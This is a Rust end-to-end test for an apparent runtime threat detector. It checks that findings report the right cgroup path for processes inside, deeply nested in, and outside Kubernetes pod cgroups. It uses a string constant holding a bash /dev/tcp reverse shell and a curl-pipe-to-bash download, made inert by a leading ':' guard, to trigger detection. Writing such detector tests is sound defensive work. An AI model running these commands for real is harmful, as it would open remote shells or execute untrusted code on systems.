//! Where a process is, as the kernel half reads it: on version 2 alone (virtual machines) and beside version 1 (here).

use e2e::{
    cgroup::{Cgroup, run_in},
    node::Node,
    shell,
};
use serde_json::Value;

/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
const ID: &str = "00000000000000000000000000000000000000000000000000000000000000aa";
const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";

fn property(finding: &Value, key: &str) -> String {
    finding["sourceProperties"][key].as_str().unwrap_or_default().to_owned()
}

#[test]
fn the_kernel_tells_the_cgroup_even_when_it_is_gone() {
    let node = Node::start(&[]).expect("a node");
    let path = format!("kubepods/burstable/pod{UID}/{ID}/init.scope");
    let cgroup = Cgroup::make(&path);
    run_in(&cgroup.procs(), ATTACK);
    drop(cgroup);
    // One that is deeper than any runtime makes them has no container, whatever its end is called.
    let deep = format!("{}pod{UID}/{ID}", "d/".repeat(40));
    let cgroup = Cgroup::make(&deep);
    run_in(&cgroup.procs(), &format!("{ATTACK} # deep"));
    drop(cgroup);
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} # outside")]).expect("a shell");
    let findings = node.wait_for(|all| all.len() == 3).expect("findings");
    let of = |end: &str| {
        let found = findings.iter().find(|f| {
            f["processes"][0]["script"]["contents"].as_str().is_some_and(|text| text.ends_with(end))
        });
        property(found.expect("a finding"), "Cgroup_Path")
    };
    assert_eq!(of("bash"), format!("/{path}"));
    assert!(of("# deep").ends_with(&format!("/pod{UID}/{ID}")), "{}", of("# deep"));
    assert!(!of("# outside").contains("kubepods"));
    let outcome = node.finish().expect("an outcome");
    assert_eq!(outcome.total("events_lost_total"), 0);
    assert_eq!(outcome.total("containers_known"), 1, "the deep one is nobody's");
}
